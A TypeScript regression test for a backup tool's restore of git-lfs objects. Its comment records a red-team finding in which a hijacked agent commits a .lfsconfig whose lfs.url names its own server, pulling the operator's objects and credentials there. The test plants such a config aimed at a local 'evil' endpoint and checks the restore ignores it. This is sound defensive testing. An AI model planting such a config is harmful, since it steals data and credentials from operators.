import { afterAll, describe, expect, it } from 'vitest';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { existsSync, writeFileSync } from 'node:fs';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { CliWorkspace } from '../helpers/cli.js';
import { sh, lfsWorkTree } from '../helpers/git.js';

/**
 * git-lfs reads a bare repository's `.lfsconfig` from the tree at HEAD. A restore pushed the LFS
 * objects from the snapshot's mirror, whose HEAD is the writer's commit: a hijacked agent commits
 * `.lfsconfig` with `lfs.url` of its own server, and the operator's restore into an empty remote
 * sent the batch request (then the objects, and the credentials the operator holds for that host)
 * there, and none to the target. Found in red team round 4.
 */
describe("a repository whose .lfsconfig names the writer's server", () => {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(500).end();
  });
  afterAll(() => server.close());

  it('restores its LFS objects into the target, never contacting that server', async () => {
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    const port = (server.address() as AddressInfo).port;
    const ws = new CliWorkspace();
    await ws.setupQuick();
    const work = join(ws.dir, 'work');
    lfsWorkTree(work);
    writeFileSync(join(work, 'model.bin'), randomBytes(50_000));
    writeFileSync(join(work, '.lfsconfig'), `[lfs]\n\turl = http://127.0.0.1:${port}/evil/info/lfs\n`);
    sh(work, 'add', '-A');
    sh(work, 'commit', '-q', '-m', 'model');
    const oid = sh(work, 'lfs', 'ls-files', '--long').split(' ')[0]!;
    // The agent is the writer's: its own git config points LFS back at the repository for its backup.
    const own = { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'lfs.url', GIT_CONFIG_VALUE_0: `file://${work}/.git` };
    const backedUp = await ws.here(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `ml=git:${work}`], own);
    expect(backedUp.code, backedUp.stderr).toBe(0);
    hits.length = 0; // the agent's own backup may ask it: not the operator's machine

    const remote = join(ws.dir, 'remote.git');
    sh(ws.dir, 'init', '-q', '--bare', remote);
    await ws.hereOk(ws.operator('restore', 'latest:ml', '--target', `file://${remote}`));
    expect(hits).toEqual([]);
    expect(existsSync(join(remote, 'lfs/objects', oid.slice(0, 2), oid.slice(2, 4), oid))).toBe(true);
  });
});
